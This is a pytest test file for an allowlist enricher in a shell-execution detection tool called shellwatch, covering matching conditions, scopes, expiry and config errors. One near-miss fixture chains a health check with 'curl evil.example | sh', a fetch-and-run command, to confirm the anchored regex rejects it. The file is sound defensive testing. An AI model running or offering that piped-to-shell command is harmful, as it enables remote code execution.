"""Known-good validation: the allowlist file, its conditions and scopes, expiry, and the enricher's keys."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest

from shellwatch.enrich.allowlist import (
    Allowlist,
    AllowlistEnricher,
    expiring,
    load_allowlist,
    parse_allowlist,
)
from shellwatch.enrich.base import SCORE_KEY
from shellwatch.errors import ConfigError
from shellwatch.events import Alert

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "enrich" / "allowlist"
TODAY = date(2025, 6, 1)


@pytest.fixture(scope="module")
def allowlist() -> Allowlist:
    loaded = load_allowlist(FIXTURES / "allowlist.yml")
    assert loaded.issues == ()
    return loaded


def linux(**fields: str) -> Alert:
    alert: Alert = {
        "host.name": "web01",
        "host.os.type": "linux",
        "user.name": "alice",
        "process.executable": "/bin/bash",
        "process.command_line": "bash -i",
        "process.parent.executable": "/usr/sbin/sshd",
        "rule.id": "rule-unusual-shell",
        "rule.name": "Unusual Shell Execution",
        "rule.level": "high",
    }
    alert.update({key.replace("__", "."): value for key, value in fields.items()})
    return alert


def windows(**fields: str) -> Alert:
    alert: Alert = {
        "host.name": "WKS-0042",
        "host.os.type": "windows",
        "user.name": "bob",
        "user.domain": "CORP",
        "process.executable": "C:\\Windows\\System32\\cmd.exe",
        "process.command_line": "cmd.exe /c whoami",
        "process.parent.executable": "C:\\Windows\\explorer.exe",
        "rule.id": "rule-unusual-shell",
        "rule.level": "high",
    }
    alert.update({key.replace("__", "."): value for key, value in fields.items()})
    return alert


def matched(allowlist: Allowlist, alert: Alert) -> str | None:
    entry = allowlist.lookup(alert, TODAY)
    return entry.label if entry is not None else None


def test_nothing_matches_an_ordinary_alert(allowlist: Allowlist) -> None:
    assert matched(allowlist, linux()) is None


@pytest.mark.parametrize(
    ("alert", "label"),
    [
        (linux(process__executable="/opt/agent/bin/agent-sh"), "agent-exe"),
        (linux(process__parent__executable="/usr/sbin/cron", rule__id="rule-cron-shell"), "cron-parent"),
        (linux(process__parent__executable="/usr/lib/jvm/bin/java"), "jenkins-bash"),
        (linux(process__command_line="sh -c /opt/backup/run.sh --full"), "backup-cmd"),
        (linux(process__command_line="curl -fsS http://127.0.0.1:8080/health"), "health-regex"),
        (linux(user__name="nagios"), "service-users"),
        (windows(user__name="svc_deploy01"), "service-users"),
        (
            linux(process__hash__sha256="9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
            "known-hash",
        ),
        (linux(process__hash__md5="5D41402ABC4B2A76B9719D911017C592"), "known-hash"),
    ],
    ids=[
        "executable",
        "parent",
        "parent-child",
        "command-glob",
        "regex",
        "user",
        "domain-user",
        "sha256",
        "md5",
    ],
)
def test_each_condition_kind_matches(allowlist: Allowlist, alert: Alert, label: str) -> None:
    assert matched(allowlist, alert) == label


@pytest.mark.parametrize(
    "alert",
    [
        linux(process__executable="/opt/agent/bin/agent-sh2"),
        linux(process__parent__executable="/usr/lib/jvm/bin/java", process__executable="/bin/sh"),
        linux(process__command_line="sh -c /opt/backup/other.sh"),
        linux(process__command_line="curl -fsS http://127.0.0.1:8080/health; curl evil.example | sh"),
        linux(process__command_line="curl -fsS http://10.0.0.1:8080/health"),
        windows(user__name="svc_deploy01", user__domain="OTHER"),
        linux(process__hash__sha256="0" * 64),
    ],
    ids=["exe-suffix", "wrong-child", "glob", "regex-is-anchored", "regex-host", "wrong-domain", "hash"],
)
def test_near_misses_do_not_match(allowlist: Allowlist, alert: Alert) -> None:
    assert matched(allowlist, alert) is None


def test_every_condition_of_an_entry_must_hold(allowlist: Allowlist) -> None:
    cgi = {
        "process__executable": "/bin/sh",
        "process__parent__executable": "/usr/sbin/apache2",
        "user__name": "www-data",
        "process__command_line": "sh -c /usr/lib/cgi-bin/status.sh",
    }
    assert matched(allowlist, linux(**cgi)) == "cgi-status"
    for key, other in [
        ("process__executable", "/bin/dash"),
        ("process__parent__executable", "/usr/sbin/nginx"),
        ("user__name", "root"),
        ("process__command_line", "sh -c id"),
    ]:
        assert matched(allowlist, linux(**{**cgi, key: other})) is None, key


def test_rules_scope_by_id_or_name(allowlist: Allowlist) -> None:
    cron = {"process__parent__executable": "/usr/sbin/cron"}
    assert matched(allowlist, linux(**cron, rule__id="rule-cron-shell")) == "cron-parent"
    assert matched(allowlist, linux(**cron, rule__name="Shell via Scheduled Task")) == "cron-parent"
    assert matched(allowlist, linux(**cron)) is None


def test_hosts_scope_is_a_case_insensitive_glob(allowlist: Allowlist) -> None:
    sccm = {"process__executable": "C:\\Windows\\CCM\\CcmExec.exe"}
    assert matched(allowlist, windows(**sccm)) == "sccm"
    assert matched(allowlist, windows(**sccm, host__name="wks-0001")) == "sccm"
    assert matched(allowlist, windows(**sccm, host__name="SRV-DC01")) is None


def test_windows_paths_compare_case_insensitively(allowlist: Allowlist) -> None:
    assert matched(allowlist, windows(process__executable="c:\\WINDOWS\\ccm\\ccmexec.EXE")) == "sccm"
    other_os = windows(process__executable="c:\\windows\\ccm\\ccmexec.exe", host__os__type="")
    assert matched(allowlist, other_os) == "sccm", "a drive-letter path is a Windows path"


def test_linux_paths_stay_case_sensitive(allowlist: Allowlist) -> None:
    assert matched(allowlist, linux(process__executable="/OPT/agent/bin/agent-sh")) is None


def test_a_match_is_marked_and_lowers_the_score(allowlist: Allowlist) -> None:
    alert = linux(process__executable="/opt/agent/bin/agent-sh")
    AllowlistEnricher(allowlist, today=lambda: TODAY).enrich(alert)
    assert alert["shellwatch.allowlist.matched"] is True
    assert alert["shellwatch.allowlist.expired"] is False
    assert alert["shellwatch.allowlist.reason"] == "monitoring agent runs its own shell wrapper"
    assert alert["shellwatch.allowlist.owner"] == "ops@example.org"
    assert alert["shellwatch.allowlist.expires"] == "2030-01-01"
    assert alert["shellwatch.allowlist.entry"] == "agent-exe"
    assert str(alert["shellwatch.allowlist.location"]).endswith("allowlist.yml:3")
    assert alert[SCORE_KEY] == 75 - 40
    assert alert["process.executable"] == "/opt/agent/bin/agent-sh", "the alert itself is kept"


def test_an_entry_without_id_is_named_by_its_position(allowlist: Allowlist) -> None:
    assert matched(allowlist, linux(process__executable="/usr/bin/ansible-playbook")) == "#11"


def test_no_match_writes_nothing(allowlist: Allowlist) -> None:
    alert = linux()
    AllowlistEnricher(allowlist, today=lambda: TODAY).enrich(alert)
    assert not any(key.startswith("shellwatch.allowlist.") for key in alert)
    assert SCORE_KEY not in alert


def test_an_expired_entry_is_reported_but_does_not_lower_the_score(allowlist: Allowlist) -> None:
    alert = linux(process__executable="/usr/local/bin/legacy-inventory")
    AllowlistEnricher(allowlist, today=lambda: TODAY).enrich(alert)
    assert alert["shellwatch.allowlist.expired"] is True
    assert alert["shellwatch.allowlist.matched"] is False
    assert alert["shellwatch.allowlist.reason"] == "legacy inventory tool (to be retired)"
    assert alert["shellwatch.allowlist.entry"] == "legacy-tool"
    assert SCORE_KEY not in alert


def test_an_entry_applies_through_its_expiry_day() -> None:
    allowlist = parse_allowlist(
        "- {reason: r, owner: o, expires: 2025-06-01, executable: /bin/true}\n", "inline.yml"
    )
    alert = linux(process__executable="/bin/true")
    assert not allowlist.entries[0].is_expired(date(2025, 6, 1))
    assert allowlist.entries[0].is_expired(date(2025, 6, 2))
    AllowlistEnricher(allowlist, today=lambda: date(2025, 6, 2)).enrich(alert)
    assert alert["shellwatch.allowlist.expired"] is True


def test_a_live_entry_wins_over_an_expired_one() -> None:
    text = (
        "- {id: old, reason: r, owner: o, expires: 2020-01-01, executable: /bin/true}\n"
        "- {id: new, reason: r, owner: o, expires: 2030-01-01, executable: /bin/true}\n"
    )
    alert = linux(process__executable="/bin/true")
    AllowlistEnricher(parse_allowlist(text), today=lambda: TODAY).enrich(alert)
    assert alert["shellwatch.allowlist.entry"] == "new"
    assert alert["shellwatch.allowlist.matched"] is True


def test_expiring_lists_entries_due_soon(allowlist: Allowlist) -> None:
    soon = expiring(allowlist.entries, 30, TODAY)
    assert [entry.label for entry in soon] == ["legacy-tool", "#11"]
    assert [entry.label for entry in expiring(allowlist.entries, 30, TODAY, include_expired=False)] == ["#11"]
    assert expiring(allowlist.entries, 10, TODAY, include_expired=False) == []


def test_bad_entries_are_reported_with_file_line_and_entry_and_skipped() -> None:
    loaded = load_allowlist(FIXTURES / "bad.yml")
    assert [entry.label for entry in loaded.entries] == ["good"]
    name = str(FIXTURES / "bad.yml")
    messages = [str(issue).removeprefix(name) for issue in loaded.issues]
    assert messages == [
        ":12: entry 2: unknown key 'exe'",
        ":14: entry 3: missing required key 'owner'",
        ":23: entry 4: command_regex: invalid regular expression: missing ), unterminated subpattern"
        " at position 6",
        ":28: entry 5: expires: 'next year' is not an ISO date (YYYY-MM-DD)",
        ":34: entry 6: expires: unreadable value: day is out of range for month",
        ":41: entry 7: hash: 'abc123' is not a SHA-256, SHA-1 or MD5 hex digest",
        ":43: entry 8: needs at least one condition (executable, parent_executable, parent_child,"
        " command_line, command_regex, user, hash)",
        ":49: entry 9: an entry must be a mapping of keys",
        ":54: entry 10: duplicate key 'owner'",
        ":62: entry 11: parent_child: must be a mapping with exactly the keys 'parent' and 'child'",
    ]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("reason: not a list\n", "must be a YAML list"),
        ("- [unclosed\n", "not valid YAML"),
    ],
)
def test_an_unusable_file_is_a_config_error(text: str, problem: str) -> None:
    with pytest.raises(ConfigError, match=problem):
        parse_allowlist(text, "allowlist.yml")


def test_a_missing_file_is_a_config_error(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="cannot read the allowlist"):
        load_allowlist(tmp_path / "absent.yml")


def test_an_empty_file_is_an_empty_allowlist() -> None:
    assert parse_allowlist("# nothing yet\n").entries == ()
